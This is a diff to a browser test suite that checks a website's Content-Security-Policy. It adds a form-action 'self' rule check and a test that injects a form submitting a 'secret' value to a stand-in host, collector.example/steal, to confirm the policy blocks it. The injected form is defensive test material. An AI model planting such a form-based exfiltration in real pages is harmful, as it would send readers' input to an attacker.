@@ -2,11 +2,12 @@
 // the preview server (which sends the policy as a header), in light and dark, on a phone and a
 // desktop, and the interactive parts are used; any policy violation, console error or page error
 // fails the test. The policy allows scripts and styles from the site only, plus WebAssembly for
-// Pagefind: no inline script, no style attribute, nothing from another origin.
+// Pagefind: no inline script, no style attribute, nothing from another origin, and forms submit to
+// the site only (form-action, which default-src does not cover).
 
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CONTENT_SECURITY_POLICY } from '../../src/site-config.ts';
+import { CONTENT_SECURITY_POLICY, META_CONTENT_SECURITY_POLICY } from '../../src/site-config.ts';
 import { isolatedContext, startSite, VIEWPORTS } from './support.ts';
 
 interface Problems {
@@ -80,6 +81,42 @@ describe.each(Object.entries(VIEWPORTS))('under the Content-Security-Policy (%s)
     await page.waitForURL((u) => u.pathname.endsWith('/hangyongwen/12/'));
     await context.close();
     expect(problems).toEqual({ violations: [], errors: [] });
+  });
+
+  it('the site’s own search forms (GET to /search/ and /en/search/) submit under form-action \'self\'', async () => {
+    expect(CONTENT_SECURITY_POLICY.split('; ')).toContain("form-action 'self'");
+    expect(META_CONTENT_SECURITY_POLICY.split('; '), 'a <meta> policy can carry form-action').toContain("form-action 'self'");
+    const { context, foreign } = await isolatedContext(site.browser, site.url, viewport);
+    const page = await context.newPage();
+    const problems = await watch(page);
+    for (const [from, query, to] of [['', '居住证', '/search/'], ['beijing/99/', '标准地', '/search/'], ['en/', 'land', '/en/search/']] as const) {
+      await page.goto(site.url + from);
+      await page.locator('form.home-search input[name="q"]').fill(query);
+      await page.locator('form.home-search button[type="submit"]').click();
+      await page.waitForURL((u) => u.pathname.endsWith(to) && u.searchParams.get('q') === query);
+    }
+    await context.close();
+    expect(foreign).toEqual([]);
+    expect(problems).toEqual({ violations: [], errors: [] });
+  });
+
+  it('a form that would submit to another origin is refused by the policy, before any request leaves', async () => {
+    const { context, foreign } = await isolatedContext(site.browser, site.url, viewport);
+    const page = await context.newPage();
+    const problems = await watch(page);
+    await page.goto(`${site.url}beijing/12/`);
+    // What an injection would add: a form that sends the reader's input elsewhere.
+    await page.evaluate(() => {
+      const form = Object.assign(document.createElement('form'), { action: 'https://collector.example/steal', method: 'get' });
+      form.append(Object.assign(document.createElement('input'), { name: 'q', value: 'secret' }));
+      document.body.append(form);
+      form.submit();
+    });
+    await expect.poll(() => problems.violations.length).toBeGreaterThan(0);
+    expect(problems.violations.every((v) => v.startsWith('form-action https://collector.example/'))).toBe(true);
+    expect(new URL(page.url()).pathname).toBe('/beijing/12/');
+    await context.close();
+    expect(foreign, 'the browser sent nothing to the other origin').toEqual([]);
   });
 
   it('the citation panel, sentence links and alias pages with #s3 work under it', async () => {
